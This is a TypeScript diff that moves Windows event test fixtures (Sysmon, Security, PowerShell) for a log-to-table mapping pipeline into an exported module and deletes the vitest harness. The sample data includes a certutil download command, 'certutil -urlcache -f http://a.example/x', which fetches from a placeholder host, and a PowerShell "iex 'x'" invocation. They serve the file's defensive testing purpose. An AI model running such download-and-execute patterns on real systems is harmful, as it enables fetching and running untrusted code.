@@ -1,91 +1,19 @@
-import { createHash } from 'node:crypto';
-import { describe, expect, it } from 'vitest';
-import { loadCatalog } from '../../catalog/load.ts';
-import { createRouting, type Router } from '../route.ts';
-import type { Outcome } from '../row.ts';
-import { WINDOWS_MAPPINGS } from './index.ts';
+/** Windows events and the rows that they become. */
+export type Data = Readonly<Record<string, string>>;
+export type Columns = Readonly<Record<string, unknown>>;
 
-const routing = createRouting(loadCatalog());
-
-type Data = Readonly<Record<string, string>>;
-type Columns = Readonly<Record<string, unknown>>;
-
-const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
-const GUID = '{9f85ce58-6e65-5f2d-bd07-000000000400}';
-const PARENT_GUID = '{9f85ce58-5c31-5f2d-2500-000000000400}';
-const IMAGE = 'C:\\Windows\\System32\\certutil.exe';
-const SELF = { ProcessGuid: GUID, ProcessId: '6496', Image: IMAGE, User: 'LAB\\Ann' };
-const HASHES =
+export const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
+export const GUID = '{9f85ce58-6e65-5f2d-bd07-000000000400}';
+export const PARENT_GUID = '{9f85ce58-5c31-5f2d-2500-000000000400}';
+export const IMAGE = 'C:\\Windows\\System32\\certutil.exe';
+export const SELF = { ProcessGuid: GUID, ProcessId: '6496', Image: IMAGE, User: 'LAB\\Ann' };
+export const HASHES =
   'SHA1=9245F36AA783167E0AFE948B1C0E8E7F3B81E3D4,MD5=8AC325C757FA721B272ECEA19EBCF745,SHA256=0BEC3128B241FA533DC5A9D3F62AA41323D205DEFC30DCDE228C5ECC2D1E50A9,IMPHASH=9CB27CAED52CB0AFFB32788922A0D083';
-const SHA1 = '9245f36aa783167e0afe948b1c0e8e7f3b81e3d4';
+export const SHA1 = '9245f36aa783167e0afe948b1c0e8e7f3b81e3d4';
 
 /** The event in the flat form of shippers. */
-function flat(channel: string, id: number, data: Data): object {
-  return {
-    '@timestamp': '2020-08-07T15:08:25.000Z',
-    Channel: channel,
-    EventID: id,
-    Hostname: 'PC1.lab.example',
-    RecordNumber: 4711,
-    UserID: 'S-1-5-21-1-2-3-1001',
-    ExecutionProcessID: 5852,
-    Keywords: -9214364837600034816n.toString(),
-    ...(channel === SYSMON ? { UtcTime: '2020-08-07 15:08:21.848' } : {}),
-    ...data,
-  };
-}
 
-/** The same event as the JSON of its XML, in two of the spellings that converters use. */
-function nested(channel: string, id: number, data: Data, list: boolean): object {
-  const all = { ...(channel === SYSMON ? { UtcTime: '2020-08-07 15:08:21.848' } : {}), ...data };
-  const attributes = list ? '#attributes' : '@attributes';
-  return {
-    Event: {
-      System: {
-        Provider: {
-          [attributes]: { Name: channel === 'Security' ? 'Microsoft-Windows-Security-Auditing' : 'x' },
-        },
-        EventID: list ? { '#text': id, '#attributes': { Qualifiers: 0 } } : id,
-        TimeCreated: { [attributes]: { SystemTime: '2020-08-07T15:08:25.0000000Z' } },
-        EventRecordID: 4711,
-        Execution: { [attributes]: { ProcessID: 5852, ThreadID: 1 } },
-        Channel: channel,
-        Computer: 'PC1.lab.example',
-        Security: { [attributes]: { UserID: 'S-1-5-21-1-2-3-1001' } },
-      },
-      EventData: list
-        ? {
-            Data: Object.entries(all).map(([Name, value]) => ({ '#attributes': { Name }, '#text': value })),
-          }
-        : all,
-    },
-  };
-}
-
-function send(router: Router, event: object): Outcome[] {
-  const outcomes: Outcome[] = [];
-  const text = JSON.stringify(event);
-  router.value(JSON.parse(text), text, (outcome) => outcomes.push(outcome));
-  return outcomes;
-}
-
-/** The filled columns of the row that the last event becomes. */
-function row(events: readonly object[]): { readonly table: string; readonly columns: Columns } {
-  const router = routing({ format: 'auto', table: undefined, shiftMs: 0 });
-  let last: Outcome | undefined;
-  for (const event of events) last = send(router, event)[0];
-  if (last?.kind !== 'row') throw new Error(`no row: ${JSON.stringify(last)}`);
-  const { layout, cells } = last.row;
-  const values = JSON.parse(`[${cells}]`) as unknown[];
-  expect(values).toHaveLength(layout.columns.length);
-  const filled = layout.columns.map((name, i) => [name, values[i]] as const);
-  return {
-    table: layout.table.name,
-    columns: Object.fromEntries(filled.filter(([, value]) => value !== '' && value !== null)),
-  };
-}
-
-interface Case {
+export interface Case {
   readonly channel: string;
   readonly id: number;
   readonly data: Data;
@@ -95,7 +23,7 @@ interface Case {
   readonly more?: Columns;
 }
 
-const INITIATING = {
+export const INITIATING = {
   InitiatingProcessId: 6496,
   InitiatingProcessFileName: 'certutil.exe',
   InitiatingProcessFolderPath: 'c:\\windows\\system32\\certutil.exe',
@@ -103,13 +31,13 @@ const INITIATING = {
   InitiatingProcessAccountName: 'ann',
   InitiatingProcessCreationTime: '2020-08-07 15:08:21.0000000',
 };
-const SUBJECT = {
+export const SUBJECT = {
   SubjectUserSid: 'S-1-5-21-1-2-3-1001',
   SubjectUserName: 'Ann',
   SubjectDomainName: 'LAB',
   SubjectLogonId: '0x3e7',
 };
-const LOGON = {
+export const LOGON = {
   ...SUBJECT,
   TargetUserSid: 'S-1-5-21-1-2-3-1002',
   TargetUserName: 'Bob',
@@ -124,7 +52,7 @@ const LOGON = {
   IpPort: '52011',
 };
 
-const CASES: readonly Case[] = [
+export const CASES: readonly Case[] = [
   {
     channel: SYSMON,
     id: 1,
@@ -552,92 +480,3 @@ const CASES: readonly Case[] = [
     more: { Command: "iex 'x'", ScriptBlockId: 'b1', MessageNumber: 1, MessageTotal: 2 },
   },
 ];
-
-describe('Windows events', () => {
-  for (const { channel, id, data, table, columns, more } of CASES) {
-    it(`${channel} ${id} becomes ${String(columns['ActionType'])}`, () => {
-      const forms = [
-        flat(channel, id, data),
-        nested(channel, id, data, false),
-        nested(channel, id, data, true),
-      ];
-      for (const event of forms) {
-        const made = row([event]);
-        expect(made.table).toBe(table);
-        expect(made.columns).toMatchObject({
-          ...columns,
-          DeviceName: 'pc1.lab.example',
-          DeviceId: createHash('sha1').update('pc1.lab.example').digest('hex'),
-          ReportId: 4711,
-        });
-        const rest = (made.columns['AdditionalFields'] ?? made.columns['_extra'] ?? '{}') as string;
-        expect(JSON.parse(rest)).toMatchObject(more ?? {});
-      }
-    });
-  }
-
-  it('covers every mapping', () => {
-    const sources = { [SYSMON]: 'Sysmon', Security: 'Security' } as Record<string, string>;
-    const tried = new Set(CASES.map(({ channel, id }) => `${sources[channel] ?? 'PowerShell'} ${id}`));
-    expect(
-      WINDOWS_MAPPINGS.map(({ source, id }) => `${source} ${id}`).filter((name) => !tried.has(name)),
-    ).toEqual([]);
-  });
-
-  it('keeps the process of a start in mind for the rest of the file', () => {
-    const start = CASES[0] as Case;
-    const made = row([
-      flat(SYSMON, 1, start.data),
-      flat('Security', 4624, { TargetDomainName: 'LAB', TargetUserName: 'Ann', TargetUserSid: 'S-1-5-21-7' }),
-      flat(SYSMON, 22, { ...SELF, QueryName: 'a.example' }),
-    ]);
-    expect(made.columns).toMatchObject({
-      InitiatingProcessCommandLine: 'certutil -urlcache -f http://a.example/x',
-      InitiatingProcessSHA1: SHA1,
-      InitiatingProcessCreationTime: '2020-08-07 15:08:21.8480000',
-      InitiatingProcessParentFileName: 'explorer.exe',
-      InitiatingProcessParentId: 1516,
-      InitiatingProcessAccountSid: 'S-1-5-21-7',
-    });
-  });
-
-  it('keeps events of other kinds whole, without what only says how they travelled', () => {
-    const made = row([
-      flat('System', 7036, { param1: 'Spooler', param2: 'stopped', tags: 'x', Message: 'm' }),
-    ]);
-    expect(made.table).toBe('DeviceEvents');
-    expect(made.columns['ActionType']).toBe('WindowsEvent');
-    expect(JSON.parse(String(made.columns['AdditionalFields']))).toMatchObject({
-      Channel: 'System',
-      EventID: 7036,
-      param1: 'Spooler',
-      param2: 'stopped',
-    });
-    expect(String(made.columns['AdditionalFields'])).not.toMatch(/tags|Message/);
-    const security = row([
-      flat('Security', 4703, {
-        ProcessId: '0x1f4',
-        ProcessName: 'C:\\W\\svchost.exe',
-        SubjectUserName: 'Ann',
-      }),
-    ]);
-    expect(security.columns).toMatchObject({
-      ActionType: 'WindowsEvent',
-      InitiatingProcessId: 500,
-      InitiatingProcessFileName: 'svchost.exe',
-      InitiatingProcessAccountName: 'ann',
-    });
-  });
-
-  it('rejects events without a host or a time', () => {
-    const router = routing({ format: 'auto', table: undefined, shiftMs: 0 });
-    expect(send(router, { ...flat('Security', 4624, {}), Hostname: '' })[0]?.kind).toBe('rejected');
-    expect(send(router, { ...flat('Security', 4624, {}), '@timestamp': 'never' })[0]?.kind).toBe('rejected');
-  });
-
-  it('gives a device the same id in every spelling of its name', () => {
-    const made = row([flat(SYSMON, 5, SELF)]);
-    const upper = row([{ ...flat(SYSMON, 5, SELF), Hostname: 'PC1.LAB.EXAMPLE' }]);
-    expect(upper.columns['DeviceId']).toBe(made.columns['DeviceId']);
-  });
-});
